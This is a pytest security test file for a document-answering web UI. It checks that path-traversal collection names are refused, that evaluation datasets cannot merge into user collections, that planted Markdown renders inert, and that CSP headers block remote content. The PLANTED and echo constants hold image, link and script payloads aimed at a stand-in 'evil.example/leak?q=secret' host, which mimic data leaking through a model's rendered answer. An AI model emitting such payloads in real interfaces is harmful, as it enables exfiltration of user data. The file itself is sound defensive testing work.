"""Hostile input to the UI: collection names that leave the store, datasets that would merge into a user's
collection, planted Markdown that would fetch remote images, and the headers that keep the page offline."""

import json
import os
import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from rag.answer import Engine
from rag.documents.pipeline import ingest
from rag.retrieval import open_collection, open_retriever
from retrievers.stores import Collection
from tests.eval.conftest import SQUAD
from tests.rag.fakes import ScriptedLLM
from ui.backend import Backend, sources_markdown

EVIL = "https://evil.example/leak?q=secret"
PLANTED = f'![x]({EVIL}) <img src="{EVIL}"> [click]({EVIL}) <script>alert(1)</script> `tick'
ANSWER = "Mars is red because of iron oxide [1]"


def factory(settings, name):
    return Engine(open_retriever(settings, open_collection(settings, name), "bm25"), ScriptedLLM([ANSWER]))


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def upload(tmp_path):
    path = tmp_path / "in" / "saturn.txt"
    path.parent.mkdir()
    path.write_text("Saturn has the most spectacular rings in the Solar System.", encoding="utf-8")
    return path


# -- 1. the Documents tab writes only under STORE/uploads ---------------------------------------------------


@pytest.mark.parametrize("name", ["ABSOLUTE", "..", "../..", "../../outside", "x/../../y", "x/y", "a\\..\\b"])
def test_documents_tab_refuses_a_collection_name_that_leaves_the_store(ingested, tmp_path, upload, name):
    name = str(tmp_path / "outside") if name == "ABSOLUTE" else name
    before = files_under(tmp_path)
    text = Backend(ingested, factory).ingest_files([str(upload)], name)
    assert text.startswith("⚠️") and "invalid collection name" in text
    assert files_under(tmp_path) == before  # nothing written anywhere, inside the store or out


def test_documents_tab_refuses_a_collection_folder_that_links_out_of_the_store(ingested, tmp_path, upload):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    uploads = ingested.store / "uploads"
    uploads.mkdir(parents=True, exist_ok=True)
    (uploads / "linked").symlink_to(outside, target_is_directory=True)
    text = Backend(ingested, factory).ingest_files([str(upload)], "linked")
    assert text.startswith("⚠️") and not any(outside.iterdir())


# -- 2. the Evaluate tab never merges a dataset into a collection it did not build ---------------------------


def squad_file(folder: Path, stem: str) -> Path:
    path = folder / f"{stem}.json"
    path.write_text(json.dumps(SQUAD), encoding="utf-8")
    return path


def sources_of(settings, name: str) -> dict:
    coll = Collection(name, settings.store)
    try:
        return coll.passage_counts()
    finally:
        coll.close()


def test_evaluate_tab_refuses_to_merge_a_dataset_into_a_users_collection(ingested, tmp_path):
    before = sources_of(ingested, "default")
    dataset = squad_file(tmp_path, "default")  # a SQuAD file named like the user's collection
    table, plot = Backend(ingested, factory).evaluate(str(dataset), "squad", None, ["bm25"], "1", tmp_path / "r")
    assert table.startswith("⚠️") and "'default'" in table and plot is None
    assert sources_of(ingested, "default") == before


def test_evaluate_tab_reuses_its_own_collection_but_not_once_other_documents_joined_it(ingested, tmp_path, upload):
    backend = Backend(ingested, factory)
    dataset = squad_file(tmp_path, "squad-tiny")
    for _ in range(2):  # built, then reused as it is
        table, _ = backend.evaluate(str(dataset), "squad", None, ["bm25"], "1", tmp_path / "r")
        assert "| bm25 |" in table, table
    assert list(sources_of(ingested, "squad-tiny")) == ["dataset:squad:squad-tiny"]
    assert "✅" in backend.ingest_files([str(upload)], "squad-tiny")  # the user adds a file of their own
    before = sources_of(ingested, "squad-tiny")
    table, _ = backend.evaluate(str(dataset), "squad", None, ["bm25"], "1", tmp_path / "r")
    assert table.startswith("⚠️") and "'squad-tiny'" in table
    assert sources_of(ingested, "squad-tiny") == before


# -- 3. untrusted text renders inert: no remote image, link or raw HTML --------------------------------------


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer (raw HTML allowed, as Gradio's is before sanitising) makes of `markdown`."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").render(markdown)


TEXT_TAGS = {"p", "strong", "em", "code", "pre", "blockquote", "hr", "br", "ul", "ol", "li", "h1", "h2", "h3"}


def assert_inert(markdown: str) -> None:
    """The rendered `markdown` holds text formatting only: no image, link, script or other tag, no attribute,
    and no bare address that GitHub-style Markdown (Gradio's) would make a link of."""
    from html.parser import HTMLParser

    tags = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            tags.append((tag, attrs))

    html = rendered(markdown)
    Tags().feed(html)
    assert all(tag in TEXT_TAGS and not attrs for tag, attrs in tags), (tags, markdown, html)
    assert not re.search(r"(?i)(?:https?|ftp)://|www\.", markdown), markdown


@pytest.fixture
def planted(settings, tmp_path):
    """A collection whose one document plants images, a link and HTML in its title and text."""
    path = tmp_path / "planted" / f"mars {PLANTED[:40].replace('/', '_')}.jsonl"
    path.parent.mkdir()
    path.write_text(
        json.dumps({"id": "mars", "title": f"Mars {PLANTED}", "text": f"Mars is red because of iron oxide. {PLANTED}"})
        + "\n",
        encoding="utf-8",
    )
    report = ingest([str(path)], settings, collection="planted", progress=False)
    assert not report.failed, report.failed
    return settings


def test_planted_markdown_in_titles_sources_and_text_renders_inert(planted):
    chat, sources = list(Backend(planted, factory).respond("Why is Mars red?", [], "planted"))[-1]
    assert "iron oxide" in sources and "evil.example" in sources  # shown, as text
    assert_inert(sources)
    assert_inert(chat[-1]["content"])


def test_the_models_answer_cannot_render_images_links_or_html_but_keeps_bold_and_citations(planted):
    echo = f"Mars is **red** [1]. {PLANTED} ![y][ref] [ref]\n\n[ref]: {EVIL}\n\n\\\\<img src=x> \\\\![z]({EVIL})"

    def echoing(settings, name):
        return Engine(open_retriever(settings, open_collection(settings, name), "bm25"), ScriptedLLM([echo]))

    steps = list(Backend(planted, echoing).respond("Why is Mars red?", [], "planted"))
    for chat, _ in steps:  # every step of the stream, not only the last
        assert_inert(chat[-1]["content"])
    html = rendered(steps[-1][0][-1]["content"])
    assert "<strong>red</strong> [1]" in html and "evil.example" in html


def test_the_lead_keeps_its_bold_span_and_citation_over_planted_text(planted):
    from tests.rag.test_engine import PointingReader

    def leading(settings, name):
        return Engine(
            open_retriever(settings, open_collection(settings, name), "bm25"),
            ScriptedLLM([f"It is iron oxide [1]. {PLANTED}"]),
            reader=PointingReader("iron oxide"),
            lead=True,
        )

    chat, sources = list(Backend(planted, leading).respond("What makes Mars red?", [], "planted"))[-1]
    answer = chat[-1]["content"]
    assert answer.startswith("**iron oxide** [1] — “") and "<strong>iron oxide</strong> [1]" in rendered(answer)
    assert_inert(answer)
    assert sources.startswith("**Short answer: iron oxide** [1]") and "**iron oxide**" in sources
    assert_inert(sources)


def test_sources_panel_escapes_a_short_answer_and_passage_fields():
    from rag.answer import ShortAnswer
    from retrievers.passages import Passage

    class Source:
        n, score = 1, 0.5
        passage = Passage(id="p", text=f"text {PLANTED}", title=f"title {PLANTED}", source=f"/d/`{PLANTED}`.md")

    context = f"The span {PLANTED} here."
    short = ShortAnswer(PLANTED, 1, "p", 9, 9 + len(PLANTED), context, 1.0)

    class Answered:
        short_answer, grounded = short, None

    markdown = sources_markdown([Source()], Answered())
    assert_inert(markdown)
    assert "<strong>" in rendered(markdown)  # the span is still bold, its syntax escaped inside


def test_the_escaping_functions_leave_nothing_live_and_are_stable_while_streaming():
    from rag.answer.presentation import escape_markdown, inert_markdown

    hostile = [
        PLANTED,
        f"\\{PLANTED}",
        f"\\\\<img src=x> \\\\![a]({EVIL})",
        f"[r]: {EVIL}\n\n[r] ![r]",
        f"<{EVIL}> www.evil.example HTTPS://evil.example",
        "`a\\`<b>c</b>",
    ]
    for text in hostile:
        assert_inert(escape_markdown(text))
        assert_inert(inert_markdown(text))
        # Text escaped already (the lead's quotes) renders as it did.
        assert rendered(inert_markdown(escape_markdown(text))) == rendered(escape_markdown(text))
        shown = [inert_markdown(text[:i]) for i in range(len(text) + 1)]
        assert all(b.startswith(a) for a, b in zip(shown, shown[1:]))  # a streamed answer only grows
    assert inert_markdown("**bold** and [1], [2]\n\n- a list") == "**bold** and [1], [2]\n\n- a list"


def test_the_chat_sanitises_html_and_keeps_no_custom_tags(ingested):
    from gradio import Chatbot, Markdown

    from ui.app import build_ui

    ui = build_ui(ingested, Backend(ingested, factory))
    chat = next(b for b in ui.blocks.values() if isinstance(b, Chatbot))
    assert chat.sanitize_html is True and chat.allow_tags is False
    assert all(b.sanitize_html for b in ui.blocks.values() if isinstance(b, Markdown))


# -- 4. the page's headers forbid remote content -------------------------------------------------------------


def test_the_ui_pages_carry_a_content_security_policy(ingested):
    from fastapi.testclient import TestClient

    from ui import create_api
    from ui.app import mount_ui

    client = TestClient(mount_ui(create_api(ingested), ingested, Backend(ingested, factory)))
    for path in ("/", "/config"):
        response = client.get(path)
        assert response.status_code == 200, path
        policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
        assert policy["img-src"] == "'self' data: blob:" and policy["connect-src"] == "'self'"
        assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
        assert "http" not in response.headers["content-security-policy"] and "*" not in policy["script-src"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"


CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
DRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"


@pytest.fixture
def evil_server():
    """An HTTP server on another origin that records every request made to it."""
    hits: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(
    not (os.path.exists(CHROMIUM) and os.path.exists(DRIVER)), reason="needs Debian's chromium and chromium-driver"
)
def test_in_a_browser_an_echoed_image_fetches_nothing_and_the_page_breaks_no_policy(planted, evil_server):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    from tests.ui.servers import running
    from ui import create_api
    from ui.app import mount_ui
    from ui.engines import Engines

    evil, hits = evil_server
    echo = f'Mars is red [1] ![leak]({evil}/md?q=secret) <img src="{evil}/html?q=secret"> done'

    def echoing(settings, name):
        return Engine(open_retriever(settings, open_collection(settings, name), "bm25"), ScriptedLLM([echo]))

    settings = planted.model_copy(update={"collection": "planted"})
    engines = Engines(settings, echoing)
    os.environ.setdefault("SE_OFFLINE", "true")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        "--window-size=1280,900",
    ):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    with running(mount_ui(create_api(settings, engines=engines), settings, Backend(settings, engines=engines))) as url:
        browser = webdriver.Chrome(service=Service(DRIVER), options=options)
        try:
            browser.get(f"{url}/")
            wait = WebDriverWait(browser, 120)  # a loaded machine can be slow
            box = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
            box.send_keys("Why is Mars red?", Keys.ENTER)
            wait.until(ec.text_to_be_present_in_element((By.ID, "chat"), "done"))
            wait.until(ec.text_to_be_present_in_element((By.ID, "sources"), "evil.example"))
            images = [img.get_attribute("src") or "" for img in browser.find_elements(By.CSS_SELECTOR, "img")]
            links = [a.get_attribute("href") for a in browser.find_elements(By.CSS_SELECTOR, "#chat a, #sources a")]
            logs = [entry["message"] for entry in browser.get_log("browser")]
        finally:
            browser.quit()
    assert not hits, hits
    assert not [src for src in images if evil in src or "evil.example" in src], images
    assert not links, links
    assert not [m for m in logs if "Content Security Policy" in m], logs  # Gradio itself runs within the policy
